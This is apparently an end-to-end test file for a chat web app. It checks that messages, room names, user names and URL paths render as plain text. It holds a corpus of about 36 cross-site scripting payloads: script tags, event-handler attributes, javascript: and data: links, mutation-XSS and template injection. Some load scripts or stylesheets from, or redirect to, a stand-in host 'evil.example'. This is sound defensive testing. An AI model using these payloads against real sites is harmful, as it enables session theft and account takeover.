import { expect } from "vitest";
import { Api } from "./harness/api.ts";
import { same } from "./harness/history.ts";
import type { Person } from "./harness/person.ts";
import { test, unique } from "./harness/test.ts";

// What runs in any of these calls alert, which the harness counts as a fault, or sets
// window.pwned; what loads from evil.example is a foreign request, a fault as well.
const corpus = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `"><script src=//evil.example/x.js></script>`,
  `'-alert(1)-'"><b onmouseover=alert(1)>x`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt&#58;alert(1))`,
  `[click](\u200Bjavascript:alert(1))`,
  `[click](java\tscript:alert(1))`,
  `[click](data:text/html,<script>alert(1)</script>)`,
  `[click](vbscript:msgbox(1))`,
  `![x](https://evil.example/pixel.png)`,
  `![x](javascript:alert(1) "onerror=alert(1)")`,
  `<https://evil.example/"onmouseover="alert(1)>`,
  `<javascript:alert(1)>`,
  `[ref]\n\n[ref]: javascript:alert(1)`,
  `https://evil.example/"><img/src/onerror=alert(1)>`,
  '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  "`<img src=x onerror=alert(1)>`",
  `**<b onclick=alert(1)>bold</b>** _<i>x</i>_`,
  `> <script>alert(1)</script>`,
  `- <img src=x onerror=alert(1)>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<form action="https://evil.example"><button>x</button></form>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `{{constructor.constructor('alert(1)')()}}`,
  `\${alert(1)}`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `<div id=app></div><input name=body autofocus onfocus=alert(1)>`,
  `\u202Egpj.exe https://example.org`,
  `:smile"><img src=x onerror=alert(1)>:`,
];

/** Nothing of it became an element, and every link leads to the web. */
async function harmless(p: Person) {
  const found = await p.page.evaluate(() => {
    const bad: string[] = [];
    for (const e of document.querySelectorAll(
      "script, iframe, object, embed, base, meta[http-equiv], img, form, style, link",
    ))
      if (!e.closest("head") && !(e.tagName === "FORM" && e.closest("dialog, main")))
        if (e.closest("[role=log], nav, h1")) bad.push(e.outerHTML);
    for (const e of document.querySelectorAll("[role=log] *, nav *, h1 *"))
      for (const { name } of e.attributes) if (name.startsWith("on")) bad.push(e.outerHTML);
    for (const a of document.querySelectorAll<HTMLAnchorElement>("a[href]"))
      if (!/^(https?|mailto):$/.test(a.protocol)) bad.push(a.outerHTML);
    if ("pwned" in window) bad.push("window.pwned");
    return bad;
  });
  expect(found).toEqual([]);
  expect(await p.page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);
}

/** Makes a page note what its policy keeps from happening; it should not come to that. */
const noteViolations = () => {
  const noted: string[] = [];
  Object.assign(window, { violations: noted });
  document.addEventListener("securitypolicyviolation", (e) =>
    noted.push(`${e.violatedDirective} ${e.blockedURI}`),
  );
};

test("what is typed as a message stays text", async ({ people }) => {
  const [ada, bob] = [await people.open("Ada"), await people.open("Bob")];
  const room = await ada.api.createRoom(unique("xss"));
  for (const p of [ada, bob]) {
    await p.page.addInitScript(noteViolations);
    await p.api.join(room.id).catch(() => undefined); // she is in it
    await p.enter(room.id);
  }
  for (const body of corpus) await ada.say(body);
  await ada.allSent();
  await bob.say("done");
  await ada.sees("done");
  const posted = (await ada.api.events(room.id)).flatMap((e) => e.body ?? []);
  same(posted, [...corpus, "done"], "the log", "what was typed");
  for (const p of [ada, bob]) {
    await p.enter(room.id, 1);
    for (let last = -1, at = 0, end = false; !end || at !== last;) {
      last = at;
      await harmless(p);
      for (const hidden of await p.log.locator("button:has-text('more')").all()) await hidden.click();
      [at, end] = await p.scrollBy(0.7);
    }
  }
});

test("what is typed as the name of a room or a person stays text", async ({ people }) => {
  const bodies = corpus.filter((text) => !/\s{2}|\p{C}/u.test(text) && text.length <= 60);
  expect(bodies.length).toBeGreaterThan(15);
  const host = await Api.guest("host");
  const room = await host.createRoom(unique("xss names"));
  const p = await people.stranger();
  await p.page.addInitScript(noteViolations);
  await p.goto("/");
  await p.textbox("Name").fill(`<img src=x onerror=alert(1)>`);
  await p.button("Continue as guest").click();
  await p.rooms.waitFor();
  for (const name of bodies.slice(0, 3)) {
    await p.button("New room").click();
    const dialog = p.page.getByRole("dialog", { name: "New room" });
    await dialog.getByRole("textbox", { name: "Room name" }).fill(name);
    await dialog.getByRole("button", { name: "Create" }).click();
    await p.page.getByRole("heading", { level: 1, name, exact: true }).waitFor();
    await harmless(p);
  }
  for (const name of bodies.slice(3)) {
    const somebody = await Api.guest(name);
    await somebody.createRoom(name);
    await somebody.join(room.id);
    await somebody.say(room.id, `I am ${name}`);
  }
  await p.goto(`/rooms/${room.id}`);
  await p.log.locator("article").first().waitFor();
  await harmless(p);
  await p.button("Members").click();
  await p.page.getByText(bodies[4]!, { exact: true }).first().waitFor();
  await harmless(p);
  await p.page.getByLabel("Filter rooms").fill("<script>");
  await harmless(p);
});

test("a path that nobody made stays text", async ({ people }) => {
  const p = await people.open("Ada");
  p.watch.excuse(/status of 40\d/, "there is no such room");
  await p.page.addInitScript(noteViolations);
  for (const path of [
    "/rooms/<img src=x onerror=alert(1)>",
    "/rooms/%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E/1",
    "/account?<svg onload=alert(1)>#<svg onload=alert(1)>",
  ]) {
    await p.goto(path);
    await p.rooms.waitFor();
    await harmless(p);
  }
});
